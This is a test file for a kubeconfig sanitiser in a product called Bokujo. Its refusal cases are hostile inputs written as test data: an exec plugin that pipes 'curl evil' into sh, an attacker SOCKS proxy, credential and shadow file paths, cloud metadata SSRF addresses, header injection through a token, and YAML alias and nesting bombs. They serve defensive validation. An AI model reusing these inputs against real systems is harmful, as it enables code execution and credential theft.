import { createPrivateKey, X509Certificate } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { InputError } from '../../../../errors.ts';
import {
  isForbiddenAddress,
  listContexts,
  sanitiseKubeconfig,
  type SanitiseOptions,
  toClusterConnection,
} from './sanitise-kubeconfig.ts';
import { base64, makeTestCertificate, toPem } from './test-certificates.ts';

const token = 'eyJhbGciOiJSUzI1NiJ9.Ym9rdWpvLXRlc3Q.SeCrEt-ToKeN-7c1f0e';
const ca = makeTestCertificate({ commonName: 'test-ca', isCa: true });
const alice = makeTestCertificate({ commonName: 'alice' });
const day = 24 * 60 * 60 * 1000;

type Fields = Record<string, unknown>;

/** A good token kubeconfig; overrides replace fields, `undefined` removes one. */
function kubeconfig(overrides: { cluster?: Fields; user?: Fields; top?: Fields } = {}): string {
  return stringify({
    apiVersion: 'v1',
    kind: 'Config',
    'current-context': 'dev',
    clusters: [
      {
        name: 'dev-cluster',
        cluster: {
          server: 'https://127.0.0.1:6443',
          'certificate-authority-data': base64(ca.certPem),
          ...overrides.cluster,
        },
      },
    ],
    users: [{ name: 'alice', user: { token, ...overrides.user } }],
    contexts: [{ name: 'dev', context: { cluster: 'dev-cluster', user: 'alice' } }],
    ...overrides.top,
  });
}

const certificateUser = (certificate = alice) => ({
  token: undefined,
  'client-certificate-data': base64(certificate.certPem),
  'client-key-data': base64(certificate.keyPem),
});

function sanitise(text: string, options: Partial<SanitiseOptions> = {}) {
  return sanitiseKubeconfig(text, { allowInsecureSkipTlsVerify: false, ...options });
}

function refusal(text: string, options: Partial<SanitiseOptions> = {}): InputError {
  try {
    sanitise(text, options);
  } catch (error) {
    if (error instanceof InputError) return error;
    throw error;
  }
  throw new Error('the kubeconfig was accepted');
}

const root = '/body/kubeconfig';
const clusterField = (key: string) => `${root}/clusters/0/cluster/${key}`;
const userField = (key: string) => `${root}/users/0/user/${key}`;

function expectRefused(error: InputError, field: string, fragment: string | RegExp): void {
  expect(error.statusCode).toBe(400);
  expect(error.code).toBe('VALIDATION_FAILED');
  const detail = error.details?.find((candidate) => candidate.field === field);
  expect(detail, `no detail for ${field} in ${JSON.stringify(error.details)}`).toBeDefined();
  expect(detail?.reason).toMatch(fragment);
  expect(error.message).toContain('The kubeconfig cannot be imported');
}

describe('sanitiseKubeconfig accepts', () => {
  it('a token kubeconfig and returns only the fields Bokujo uses', () => {
    expect(sanitise(kubeconfig())).toEqual({
      contextName: 'dev',
      clusterName: 'dev-cluster',
      userName: 'alice',
      server: 'https://127.0.0.1:6443',
      caData: ca.certPem,
      insecureSkipTlsVerify: false,
      credential: { kind: 'token', token },
      contexts: ['dev'],
    });
  });

  it('an embedded client certificate and key', () => {
    const result = sanitise(kubeconfig({ user: certificateUser() }));
    expect(result.credential.kind).toBe('client-certificate');
    if (result.credential.kind !== 'client-certificate') return;
    const certificate = new X509Certificate(result.credential.certData);
    expect(certificate.subject).toBe('CN=alice');
    expect(certificate.checkPrivateKey(createPrivateKey(result.credential.keyData))).toBe(true);
    expect(result.credential.keyData).toMatch(/^-----BEGIN PRIVATE KEY-----\n/);
  });

  it('an RSA PKCS#1 key and an EC key written with its EC PARAMETERS block', () => {
    const rsa = makeTestCertificate({ keyType: 'rsa' });
    expect(sanitise(kubeconfig({ user: certificateUser(rsa) })).credential.kind).toBe('client-certificate');

    const ec = makeTestCertificate();
    const sec1 = ec.privateKey.export({ type: 'sec1', format: 'pem' }).toString();
    const withParameters = `${toPem('EC PARAMETERS', Buffer.from('06082a8648ce3d030107', 'hex'))}${sec1}`;
    const user = { ...certificateUser(ec), 'client-key-data': base64(withParameters) };
    expect(sanitise(kubeconfig({ user })).credential.kind).toBe('client-certificate');
  });

  it('several contexts: current-context unless the request picks one', () => {
    const text = stringify({
      apiVersion: 'v1',
      kind: 'Config',
      'current-context': 'prod',
      clusters: [
        { name: 'a', cluster: { server: 'https://a.example.com' } },
        { name: 'b', cluster: { server: 'https://b.example.com:8443' } },
      ],
      users: [
        { name: 'u1', user: { token } },
        { name: 'u2', user: { token: 'other-token' } },
      ],
      contexts: [
        { name: 'staging', context: { cluster: 'a', user: 'u1' } },
        { name: 'prod', context: { cluster: 'b', user: 'u2' } },
      ],
    });
    expect(sanitise(text)).toMatchObject({ contextName: 'prod', server: 'https://b.example.com:8443', userName: 'u2' });
    expect(sanitise(text, { context: 'staging' })).toMatchObject({
      contextName: 'staging',
      clusterName: 'a',
      server: 'https://a.example.com',
      contexts: ['staging', 'prod'],
    });
    expect(listContexts(text)).toEqual({ contexts: ['staging', 'prod'], currentContext: 'prod' });
  });

  it('the only context when current-context is missing or empty, and a missing kind', () => {
    const text = kubeconfig({ top: { 'current-context': '', kind: undefined } });
    expect(sanitise(text).contextName).toBe('dev');
  });

  it('insecure-skip-tls-verify with the explicit option, dropping the CA it makes meaningless', () => {
    const text = kubeconfig({
      cluster: { 'insecure-skip-tls-verify': true, 'certificate-authority-data': 'not even base64!' },
    });
    const result = sanitise(text, { allowInsecureSkipTlsVerify: true });
    expect(result.insecureSkipTlsVerify).toBe(true);
    expect(result).not.toHaveProperty('caData');
  });

  it('a server path prefix, normalised without the trailing slash, and tls-server-name', () => {
    const text = kubeconfig({
      cluster: { server: 'HTTPS://Kube.Example.COM:443/k8s/clusters/c-1/', 'tls-server-name': 'kubernetes.default' },
    });
    expect(sanitise(text)).toMatchObject({
      server: 'https://kube.example.com/k8s/clusters/c-1',
      tlsServerName: 'kubernetes.default',
    });
  });

  it('loopback servers, where test clusters run', () => {
    expect(sanitise(kubeconfig({ cluster: { server: 'https://[::1]:6443' } })).server).toBe('https://[::1]:6443');
    expect(sanitise(kubeconfig({ cluster: { server: 'https://localhost:6443/' } })).server).toBe(
      'https://localhost:6443',
    );
  });

  it('ignores unknown and unused fields and never passes them on', () => {
    const text = kubeconfig({
      cluster: { extensions: [{ name: 'x', extension: { a: 1 } }], 'disable-compression': true, surprise: 'x' },
      user: { extensions: [], surprise: { nested: true } },
      top: { preferences: { colors: true }, extensions: [], ['__proto__']: { polluted: true } },
    });
    const result = sanitise(text);
    expect(Object.keys(result).sort()).toEqual(
      [
        'caData',
        'clusterName',
        'contextName',
        'contexts',
        'credential',
        'insecureSkipTlsVerify',
        'server',
        'userName',
      ].sort(),
    );
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  it('null and empty fields as unset, as kubectl writes them', () => {
    const text = kubeconfig({ user: { exec: null, 'client-certificate': '', tokenFile: null } });
    expect(sanitise(text).credential).toEqual({ kind: 'token', token });
  });

  it('a kubeconfig whose unused user runs an exec plugin: only the chosen entries are judged', () => {
    const text = stringify({
      apiVersion: 'v1',
      clusters: [
        { name: 'kind', cluster: { server: 'https://127.0.0.1:6443' } },
        { name: 'eks', cluster: { server: 'http://insecure.example.com' } },
      ],
      users: [
        { name: 'kind-admin', user: { token } },
        { name: 'eks-admin', user: { exec: { command: 'aws', args: ['eks', 'get-token'] } } },
      ],
      contexts: [
        { name: 'kind', context: { cluster: 'kind', user: 'kind-admin' } },
        { name: 'eks', context: { cluster: 'eks', user: 'eks-admin' } },
      ],
    });
    expect(sanitise(text, { context: 'kind' }).userName).toBe('kind-admin');
    expectRefused(refusal(text, { context: 'eks' }), `${root}/users/1/user/exec`, /exec runs a credential plugin/);
  });

  it('Windows line endings and a byte order mark', () => {
    const text = `\uFEFF${kubeconfig().replaceAll('\n', '\r\n')}`;
    expect(sanitise(text).credential).toEqual({ kind: 'token', token });
  });

  it('JSON, which is YAML too', () => {
    const text = JSON.stringify({
      apiVersion: 'v1',
      kind: 'Config',
      clusters: [{ name: 'c', cluster: { server: 'https://10.0.0.1:6443' } }],
      users: [{ name: 'u', user: { token } }],
      contexts: [{ name: 'x', context: { cluster: 'c', user: 'u' } }],
    });
    expect(sanitise(text).server).toBe('https://10.0.0.1:6443');
  });

  it('a CA bundle with explanatory text, keeping only the certificates', () => {
    const other = makeTestCertificate({ commonName: 'other-ca', isCa: true });
    const bundle = `subject=CN = test-ca\n${ca.certPem}\n# second\n${other.certPem}`;
    const result = sanitise(kubeconfig({ cluster: { 'certificate-authority-data': base64(bundle) } }));
    expect(result.caData).toBe(`${ca.certPem}${other.certPem}`);
  });

  it('a large but ordinary kubeconfig quickly', () => {
    const count = 300;
    const names = Array.from({ length: count }, (_, index) => `cluster-${index}`);
    const text = stringify({
      apiVersion: 'v1',
      kind: 'Config',
      'current-context': 'cluster-299',
      clusters: names.map((name) => ({
        name,
        cluster: { server: `https://${name}.example.com`, 'certificate-authority-data': base64(ca.certPem) },
      })),
      users: names.map((name) => ({ name, user: { token: `${name}-token` } })),
      contexts: names.map((name) => ({ name, context: { cluster: name, user: name } })),
    });
    const started = performance.now();
    expect(sanitise(text).contexts).toHaveLength(count);
    expect(performance.now() - started).toBeLessThan(3000);
  });

  it('builds the ClusterConnection from the result', () => {
    const result = sanitise(kubeconfig());
    expect(toClusterConnection('c-1', result)).toEqual({
      clusterId: 'c-1',
      server: 'https://127.0.0.1:6443',
      caData: ca.certPem,
      insecureSkipTlsVerify: false,
      credential: { kind: 'token', token },
    });
  });
});

interface HostileCase {
  name: string;
  text: string;
  field: string;
  fragment: string | RegExp;
  options?: Partial<SanitiseOptions>;
}

const expired = makeTestCertificate({
  notBefore: new Date('2020-01-01T00:00:00Z'),
  notAfter: new Date('2020-01-02T00:00:00Z'),
});
const future = makeTestCertificate({
  notBefore: new Date(Date.now() + 30 * day),
  notAfter: new Date(Date.now() + 60 * day),
});
const stranger = makeTestCertificate({ commonName: 'stranger' });

const billionLaughs = [
  'apiVersion: v1',
  'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
  'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
  'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
  'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]',
  'e: [*d,*d,*d,*d,*d,*d,*d,*d,*d]',
].join('\n');

const hostileCases: HostileCase[] = [
  // Credential plugins and files
  {
    name: 'an exec credential plugin',
    text: kubeconfig({ user: { token: undefined, exec: { command: 'sh', args: ['-c', 'curl evil | sh'] } } }),
    field: userField('exec'),
    fragment: 'runs a credential plugin command on the Bokujo server',
  },
  {
    name: 'an auth-provider plugin',
    text: kubeconfig({ user: { 'auth-provider': { name: 'gcp', config: { 'cmd-path': '/bin/sh' } } } }),
    field: userField('auth-provider'),
    fragment: 'auth-provider plugins',
  },
  {
    name: 'a certificate-authority file path',
    text: kubeconfig({ cluster: { 'certificate-authority': '/etc/shadow' } }),
    field: clusterField('certificate-authority'),
    fragment: 'names a file',
  },
  {
    name: 'a client-certificate file path',
    text: kubeconfig({ user: { token: undefined, 'client-certificate': '/root/.kube/cert.pem' } }),
    field: userField('client-certificate'),
    fragment: 'names a file',
  },
  {
    name: 'a client-key file path',
    text: kubeconfig({ user: { 'client-key': '/root/.ssh/id_rsa' } }),
    field: userField('client-key'),
    fragment: 'names a file',
  },
  {
    name: 'a tokenFile',
    text: kubeconfig({ user: { token: undefined, tokenFile: '/var/run/secrets/kubernetes.io/serviceaccount/token' } }),
    field: userField('tokenFile'),
    fragment: 'tokenFile names a file',
  },
  {
    name: 'a token-file',
    text: kubeconfig({ user: { 'token-file': '/etc/token' } }),
    field: userField('token-file'),
    fragment: 'token-file names a file',
  },
  {
    name: 'a proxy-url',
    text: kubeconfig({ cluster: { 'proxy-url': 'socks5://attacker.example.com:1080' } }),
    field: clusterField('proxy-url'),
    fragment: 'proxy chosen by the upload',
  },
  {
    name: 'basic auth',
    text: kubeconfig({ user: { token: undefined, username: 'admin', password: 'hunter2' } }),
    field: userField('password'),
    fragment: 'basic authentication (username and password) is deprecated',
  },
  {
    name: 'impersonation with as',
    text: kubeconfig({ user: { as: 'system:admin' } }),
    field: userField('as'),
    fragment: 'whom Bokujo acts as',
  },
  {
    name: 'impersonation with as-groups',
    text: kubeconfig({ user: { 'as-groups': ['system:masters'] } }),
    field: userField('as-groups'),
    fragment: 'impersonation settings',
  },
  {
    name: 'impersonation with as-uid and as-user-extra',
    text: kubeconfig({ user: { 'as-uid': '0', 'as-user-extra': { scopes: ['all'] } } }),
    field: userField('as-user-extra'),
    fragment: 'impersonation settings',
  },
  // Server URLs
  {
    name: 'a plain http server',
    text: kubeconfig({ cluster: { server: 'http://kube.example.com:8080' } }),
    field: clusterField('server'),
    fragment: 'plain http would send the credential unencrypted',
  },
  {
    name: 'a unix socket server',
    text: kubeconfig({ cluster: { server: 'unix:///var/run/docker.sock' } }),
    field: clusterField('server'),
    fragment: 'must be an https:// URL',
  },
  {
    name: 'a file: server',
    text: kubeconfig({ cluster: { server: 'file:///etc/passwd' } }),
    field: clusterField('server'),
    fragment: 'must be an https:// URL',
  },
  {
    name: 'a server without a scheme',
    text: kubeconfig({ cluster: { server: 'kube.example.com:6443' } }),
    field: clusterField('server'),
    fragment: 'must be an https:// URL',
  },
  {
    name: 'a server with a user name and password',
    text: kubeconfig({ cluster: { server: 'https://admin:hunter2@kube.example.com' } }),
    field: clusterField('server'),
    fragment: 'must not contain a user name or password',
  },
  {
    name: 'a server with a query',
    text: kubeconfig({ cluster: { server: 'https://kube.example.com/?redirect=x' } }),
    field: clusterField('server'),
    fragment: 'query (?) or a fragment (#)',
  },
  {
    name: 'a server hiding a host change behind a line break',
    text: kubeconfig({ cluster: { server: 'https://kube.exa\tmple.com' } }),
    field: clusterField('server'),
    fragment: 'spaces or control characters',
  },
  {
    name: 'the cloud metadata address',
    text: kubeconfig({ cluster: { server: 'https://169.254.169.254/latest/meta-data' } }),
    field: clusterField('server'),
    fragment: 'link-local or cloud metadata address',
  },
  {
    name: 'the metadata address written as a decimal number',
    text: kubeconfig({ cluster: { server: 'https://2852039166:443' } }),
    field: clusterField('server'),
    fragment: 'link-local or cloud metadata address',
  },
  {
    name: 'the metadata address mapped into IPv6',
    text: kubeconfig({ cluster: { server: 'https://[::ffff:169.254.169.254]' } }),
    field: clusterField('server'),
    fragment: 'link-local or cloud metadata address',
  },
  {
    name: "AWS's IPv6 metadata address",
    text: kubeconfig({ cluster: { server: 'https://[fd00:ec2::254]' } }),
    field: clusterField('server'),
    fragment: 'link-local or cloud metadata address',
  },
  {
    name: "Google's metadata host name",
    text: kubeconfig({ cluster: { server: 'https://metadata.google.internal./computeMetadata/v1' } }),
    field: clusterField('server'),
    fragment: 'link-local or cloud metadata address',
  },
  {
    name: 'a cluster without a server',
    text: kubeconfig({ cluster: { server: undefined } }),
    field: clusterField('server'),
    fragment: 'has no server URL',
  },
  // TLS
  {
    name: 'insecure-skip-tls-verify without the explicit option',
    text: kubeconfig({ cluster: { 'insecure-skip-tls-verify': true } }),
    field: clusterField('insecure-skip-tls-verify'),
    fragment: 'tick the explicit "skip TLS verification" option',
  },
  {
    name: 'insecure-skip-tls-verify that is not a boolean',
    text: kubeconfig({ cluster: { 'insecure-skip-tls-verify': 'yes' } }),
    field: clusterField('insecure-skip-tls-verify'),
    fragment: 'must be true or false',
    options: { allowInsecureSkipTlsVerify: true },
  },
  {
    name: 'certificate-authority-data that is not base64',
    text: kubeconfig({ cluster: { 'certificate-authority-data': 'this is %%% not base64' } }),
    field: clusterField('certificate-authority-data'),
    fragment: 'is not valid base64',
  },
  {
    name: 'certificate-authority-data that is base64 of something other than PEM',
    text: kubeconfig({ cluster: { 'certificate-authority-data': base64('just some text') } }),
    field: clusterField('certificate-authority-data'),
    fragment: 'does not decode to a PEM certificate',
  },
  {
    name: 'certificate-authority-data holding a PEM block of garbage',
    text: kubeconfig({
      cluster: { 'certificate-authority-data': base64(toPem('CERTIFICATE', Buffer.from('garbage'))) },
    }),
    field: clusterField('certificate-authority-data'),
    fragment: 'not a valid X.509 certificate',
  },
  {
    name: 'certificate-authority-data holding a private key',
    text: kubeconfig({ cluster: { 'certificate-authority-data': base64(alice.keyPem) } }),
    field: clusterField('certificate-authority-data'),
    fragment: 'holds a PEM "PRIVATE KEY" block where a certificate belongs',
  },
  {
    name: 'certificate-authority-data pasted as PEM instead of base64',
    text: kubeconfig({ cluster: { 'certificate-authority-data': ca.certPem } }),
    field: clusterField('certificate-authority-data'),
    fragment: 'take the base64 encoding of the PEM',
  },
  {
    name: 'a tls-server-name that is not a host name',
    text: kubeconfig({ cluster: { 'tls-server-name': 'evil name/../' } }),
    field: clusterField('tls-server-name'),
    fragment: 'must be a DNS host name',
  },
  // Credentials
  {
    name: 'a user with no credential',
    text: kubeconfig({ user: { token: undefined } }),
    field: `${root}/users/0/user`,
    fragment: 'user "alice" has no credential Bokujo can use',
  },
  {
    name: 'a user with both a token and a client certificate',
    text: kubeconfig({ user: { ...certificateUser(), token } }),
    field: `${root}/users/0/user`,
    fragment: 'has both a token and a client certificate',
  },
  {
    name: 'a client certificate without its key',
    text: kubeconfig({ user: { ...certificateUser(), 'client-key-data': undefined } }),
    field: userField('client-key-data'),
    fragment: 'client-key-data is missing',
  },
  {
    name: 'a client key without its certificate',
    text: kubeconfig({ user: { ...certificateUser(), 'client-certificate-data': undefined } }),
    field: userField('client-certificate-data'),
    fragment: 'client-certificate-data is missing',
  },
  {
    name: 'client-key-data that is not base64',
    text: kubeconfig({ user: { ...certificateUser(), 'client-key-data': '***' } }),
    field: userField('client-key-data'),
    fragment: 'is not valid base64',
  },
  {
    name: 'an expired client certificate',
    text: kubeconfig({ user: certificateUser(expired) }),
    field: userField('client-certificate-data'),
    fragment: 'the client certificate expired on 2020-01-02T00:00:00.000Z',
  },
  {
    name: 'a client certificate not valid yet',
    text: kubeconfig({ user: certificateUser(future) }),
    field: userField('client-certificate-data'),
    fragment: 'is not valid before',
  },
  {
    name: 'a client key that belongs to another certificate',
    text: kubeconfig({ user: { ...certificateUser(), 'client-key-data': base64(stranger.keyPem) } }),
    field: userField('client-key-data'),
    fragment: 'is not the private key of client-certificate-data',
  },
  {
    name: 'an encrypted client key',
    text: kubeconfig({
      user: {
        ...certificateUser(),
        'client-key-data': base64(
          alice.privateKey
            .export({ type: 'pkcs8', format: 'pem', cipher: 'aes-256-cbc', passphrase: 'pass' })
            .toString(),
        ),
      },
    }),
    field: userField('client-key-data'),
    fragment: 'encrypted private key',
  },
  {
    name: 'a token with a line break',
    text: kubeconfig({ user: { token: `${token}\nAuthorization: Bearer other` } }),
    field: userField('token'),
    fragment: 'spaces or line breaks',
  },
  {
    name: 'a token that is a number',
    text: kubeconfig({ user: { token: 12345 } }),
    field: userField('token'),
    fragment: 'token must be a string',
  },
  {
    name: 'an oversized token',
    text: kubeconfig({ user: { token: 'a'.repeat(20_000) } }),
    field: userField('token'),
    fragment: 'longer than 16384 characters',
  },
  // Structure
  {
    name: 'a YAML list instead of a mapping',
    text: '- apiVersion: v1\n- kind: Config\n',
    field: root,
    fragment: 'must be a YAML mapping',
  },
  {
    name: 'a plain string',
    text: 'hello world',
    field: root,
    fragment: 'must be a YAML mapping',
  },
  {
    name: 'empty text',
    text: '  \n# only a comment\n',
    field: root,
    fragment: 'the kubeconfig is empty',
  },
  {
    name: 'a wrong kind',
    text: kubeconfig({ top: { kind: 'Secret' } }),
    field: `${root}/kind`,
    fragment: 'kind must be Config',
  },
  {
    name: 'a missing apiVersion',
    text: kubeconfig({ top: { apiVersion: undefined } }),
    field: `${root}/apiVersion`,
    fragment: 'apiVersion is missing',
  },
  {
    name: 'clusters that is not a list',
    text: kubeconfig({ top: { clusters: { name: 'x' } } }),
    field: `${root}/clusters`,
    fragment: 'clusters must be a list',
  },
  {
    name: 'two clusters with one name',
    text: kubeconfig({
      top: {
        clusters: [
          { name: 'dev-cluster', cluster: { server: 'https://good.example.com' } },
          { name: 'dev-cluster', cluster: { server: 'https://evil.example.com' } },
        ],
      },
    }),
    field: `${root}/clusters/1/name`,
    fragment: 'two clusters are named "dev-cluster"',
  },
  {
    name: 'a user entry without a name',
    text: kubeconfig({ top: { users: [{ user: { token } }] } }),
    field: `${root}/users/0/name`,
    fragment: 'a user has no name',
  },
  // Contexts
  {
    name: 'no context at all',
    text: kubeconfig({ top: { contexts: [], 'current-context': undefined } }),
    field: `${root}/contexts`,
    fragment: 'the kubeconfig has no context',
  },
  {
    name: 'several contexts and no current-context',
    text: kubeconfig({
      top: {
        'current-context': undefined,
        contexts: [
          { name: 'one', context: { cluster: 'dev-cluster', user: 'alice' } },
          { name: 'two', context: { cluster: 'dev-cluster', user: 'alice' } },
        ],
      },
    }),
    field: '/body/context',
    fragment: 'ambiguous: the kubeconfig has several contexts and no current-context; pick one of "one", "two"',
  },
  {
    name: 'a chosen context that does not exist',
    text: kubeconfig(),
    field: '/body/context',
    fragment: 'no context named "nope"; pick one of "dev"',
    options: { context: 'nope' },
  },
  {
    name: 'a current-context that does not exist',
    text: kubeconfig({ top: { 'current-context': 'ghost' } }),
    field: `${root}/current-context`,
    fragment: 'current-context names "ghost"',
  },
  {
    name: 'a context naming a missing cluster',
    text: kubeconfig({ top: { contexts: [{ name: 'dev', context: { cluster: 'elsewhere', user: 'alice' } }] } }),
    field: `${root}/contexts/0/context/cluster`,
    fragment: 'names cluster "elsewhere", which the kubeconfig does not define',
  },
  {
    name: 'a context naming a missing user',
    text: kubeconfig({ top: { contexts: [{ name: 'dev', context: { cluster: 'dev-cluster', user: 'root' } }] } }),
    field: `${root}/contexts/0/context/user`,
    fragment: 'names user "root", which the kubeconfig does not define',
  },
  // YAML itself
  {
    name: 'malformed YAML, with its line and column',
    text: 'apiVersion: v1\nkind: Config\nclusters:\n- name: a\n\tcluster: {}\n',
    field: root,
    fragment: /invalid YAML at line 5, column \d+: /,
  },
  {
    name: 'an unclosed bracket',
    text: 'apiVersion: v1\nclusters: [unclosed',
    field: root,
    fragment: /invalid YAML at line 2, column \d+: .*a closing \] or \} is missing/,
  },
  {
    name: 'an unterminated quote',
    text: `apiVersion: v1\nusers:\n- name: a\n  user:\n    token: "${token}\n`,
    field: root,
    fragment: /invalid YAML at line \d+, column \d+: a closing quote/,
  },
  {
    name: 'several YAML documents',
    text: `${kubeconfig()}---\n${kubeconfig()}`,
    field: root,
    fragment: /more than one YAML document; upload a single kubeconfig \(line \d+/,
  },
  {
    name: 'a second document after an end marker',
    text: `${kubeconfig()}...\napiVersion: v1\n`,
    field: root,
    fragment: 'more than one YAML document',
  },
  {
    name: 'an alias bomb (billion laughs)',
    text: billionLaughs,
    field: root,
    fragment: 'YAML anchors and aliases are not allowed in a kubeconfig (line 2, column 4)',
  },
  {
    name: 'a JavaScript function tag',
    text: 'apiVersion: !!js/function "function () { process.exit(1) }"\n',
    field: root,
    fragment: 'YAML tags are not allowed in a kubeconfig (line 1, column 13)',
  },
  {
    name: 'a !binary tag',
    text: `apiVersion: v1\nusers:\n- name: a\n  user:\n    token: !binary ${base64(token)}\n`,
    field: root,
    fragment: 'YAML tags are not allowed',
  },
  {
    name: 'a YAML 1.1 directive',
    text: '%YAML 1.1\n---\napiVersion: v1\n',
    field: root,
    fragment: 'YAML directives are not allowed',
  },
  {
    name: 'a key given twice',
    text: 'apiVersion: v1\nkind: Config\nclusters: []\nkind: Secret\n',
    field: root,
    fragment: 'the key "kind" appears twice in one mapping (line 4, column 1)',
  },
  {
    name: 'a kubeconfig over 1 MiB',
    text: kubeconfig({ top: { padding: 'x'.repeat(1024 * 1024) } }),
    field: root,
    fragment: 'larger than 1 MiB',
  },
];

describe('sanitiseKubeconfig refuses', () => {
  it.each(hostileCases)('$name', ({ text, field, fragment, options }) => {
    expectRefused(refusal(text, options), field, fragment);
  });

  it('every refused user field at once', () => {
    const error = refusal(kubeconfig({ user: { username: 'admin', password: 'pw', as: 'x', 'as-uid': '1' } }));
    expect(error.details?.map((detail) => detail.field)).toEqual([
      userField('username'),
      userField('password'),
      userField('as'),
      userField('as-uid'),
    ]);
    expect(error.message).toContain('(and 3 more problems)');
  });

  it('at most 20 details, while the message counts them all', () => {
    const error = refusal(kubeconfig({ top: { clusters: Array.from({ length: 50 }, () => ({ cluster: {} })) } }));
    expect(error.details).toHaveLength(20);
    expect(error.message).toContain('(and 49 more problems)');
  });

  it('a token value never appears in any refusal', () => {
    const secret = 'SuperSecretToken.abc123.zyx987';
    const withSecret = (overrides: { cluster?: Fields; user?: Fields; top?: Fields }) =>
      kubeconfig(overrides).replaceAll(token, secret);
    const texts = [
      withSecret({ user: { exec: { command: 'x' } } }),
      withSecret({ user: { username: 'a', password: secret } }),
      withSecret({ cluster: { server: `https://user:${secret}@kube.example.com` } }),
      withSecret({ cluster: { server: `http://kube.example.com/${secret}` } }),
      withSecret({ user: { 'client-key-data': secret } }),
      withSecret({ user: { token: `${secret} ${secret}` } }),
      withSecret({ user: { token: `${secret}\u0000` } }),
      withSecret({ cluster: { 'certificate-authority-data': base64(`-----BEGIN CERTIFICATE-----\n${secret}`) } }),
      `apiVersion: v1\nusers:\n- name: a\n  user:\n    token: "${secret}\\q"\n`,
      `apiVersion: v1\nusers:\n- name: a\n  user:\n    token: ${secret}\n\t  bad: indent\n`,
      `apiVersion: v1\nusers:\n- name: a\n  user:\n    token: !secret ${secret}\n`,
      `apiVersion: v1\nusers:\n- name: a\n  user:\n    token: |${secret}\n      x\n`,
    ];
    for (const text of texts) {
      expect(text).toContain(secret);
      const error = refusal(text);
      expect(JSON.stringify({ message: error.message, details: error.details })).not.toContain(secret);
      expect(JSON.stringify({ message: error.message, details: error.details })).not.toContain('SuperSecret');
    }
  });

  it('a client key never appears in any refusal', () => {
    const keyBody = alice.keyPem.split('\n')[1] ?? '';
    const error = refusal(
      kubeconfig({
        user: { ...certificateUser(), 'client-key-data': base64(alice.keyPem.replace('PRIVATE', 'PUBLIC')) },
      }),
    );
    expect(JSON.stringify(error.details)).not.toContain(keyBody);
  });
});

describe('parsing hostile YAML stays cheap', () => {
  const cheaply = (text: string, fragment: string) => {
    const started = performance.now();
    expectRefused(refusal(text), root, fragment);
    expect(performance.now() - started).toBeLessThan(3000);
  };

  it('deep flow nesting', () => cheaply('['.repeat(1_000_000), 'nested too deeply'));
  it('deep block nesting', () => cheaply(`${'- '.repeat(400_000)}x`, 'nested too deeply'));
  it('deep indentation', () =>
    cheaply(Array.from({ length: 200 }, (_, depth) => `${' '.repeat(depth)}k:`).join('\n'), 'nested too deeply'));
  it('a huge flat list', () => cheaply(`[${'1,'.repeat(500_000)}1]`, 'too many entries'));
  it('a mapping with very many keys', () =>
    cheaply(Array.from({ length: 15_000 }, (_, index) => `k${index}: 1`).join('\n'), 'too many entries'));
  it('very many documents', () => cheaply('a: 1\n---\n'.repeat(5_000), 'more than one YAML document'));
  it('very many lines', () => cheaply('#\n'.repeat(500_000), 'more than 20000 lines'));
  it('very many lines written with lone CRs', () => cheaply('a: 1\r'.repeat(100_000), 'more than 20000 lines'));
  it('very many tokens', () =>
    cheaply(Array.from({ length: 15_000 }, (_, index) => `k${index}: 1 # c`).join('\n'), 'too many YAML elements'));
  it('a quoted string over thousands of lines', () =>
    cheaply(`token: "${'a\n '.repeat(19_990)}"`, 'a quoted string spans more than 100 lines (line 1, column 8)'));
});

describe('isForbiddenAddress', () => {
  it.each([
    ['169.254.169.254', true],
    ['::ffff:169.254.169.254', true],
    ['fe80::1', true],
    ['fd00:ec2::254', true],
    ['100.100.100.200', true],
    ['127.0.0.1', false],
    ['::1', false],
    ['10.0.0.1', false],
    ['kube.example.com', false],
  ])('%s → %s', (address, forbidden) => {
    expect(isForbiddenAddress(address)).toBe(forbidden);
  });
});
